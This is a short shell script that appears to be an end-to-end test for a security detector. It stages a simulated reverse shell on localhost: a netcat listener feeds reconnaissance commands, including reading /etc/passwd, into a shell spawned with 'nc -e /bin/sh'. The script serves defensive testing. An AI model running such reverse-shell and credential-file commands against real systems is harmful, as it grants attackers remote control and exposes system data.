#!/bin/sh
# Attack: the image's own shell driven over a TCP connection, as an operator
# types into a reverse shell: commands arrive on the socket and run one by one.
# Expected from the model, not only from reverse_shell: syscall_anomaly (or
# syscall_novel).
sleep "${E2E_DELAY:-0}"
(
	i=0
	while [ "$i" -lt 30 ]; do
		echo "id; uname -a; cat /etc/passwd; ls -la /; ps"
		i=$((i + 1))
		sleep 0.2
	done
	echo exit
) | nc -l -p 4445 >/dev/null &
sleep 0.3
nc 127.0.0.1 4445 -e /bin/sh
wait
echo "session done"
